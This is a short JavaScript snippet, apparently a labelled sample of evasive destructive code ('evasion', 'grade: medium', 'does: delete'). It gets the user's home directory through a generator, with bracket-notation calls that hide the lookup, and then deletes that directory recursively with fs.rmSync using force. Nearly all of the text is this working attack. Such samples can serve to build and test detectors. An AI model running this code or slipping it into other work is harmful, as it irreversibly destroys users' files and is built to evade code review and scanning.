// evasion: a generator yields the home directory; its first value is read with it['next']()['value'] and removed
// grade: medium; does: delete
const fs = require('fs');
const os = require('os');
function* roots() { yield os.homedir(); }
const it = roots();
const dir = it['next']()['value'];
fs.rmSync(dir, { recursive: true, force: true });
